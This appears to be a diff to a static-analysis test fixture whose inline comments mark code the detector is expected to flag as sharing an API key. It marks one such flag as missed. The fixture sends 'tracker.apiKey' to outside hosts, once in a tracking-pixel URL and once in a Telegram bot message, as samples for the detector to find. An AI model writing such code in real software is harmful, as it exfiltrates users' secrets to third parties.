@@ -23,7 +23,7 @@ export async function parties(unknownHost: string) {
 
   new Image().src = `https://stats.example.org/pixel?url=${encodeURIComponent(tracker.url)}`;
 
-  new Image().src = `https://stats.example.org/pixel?key=${tracker.apiKey}`; // $ no-key-sharing
+  new Image().src = `https://stats.example.org/pixel?key=${tracker.apiKey}`; // $ MISSING: no-key-sharing
 
   const params = new URLSearchParams({ text: `key ${tracker.apiKey}` });
   await fetch(`https://api.telegram.org/bot1/sendMessage?${params}`); // $ no-key-sharing
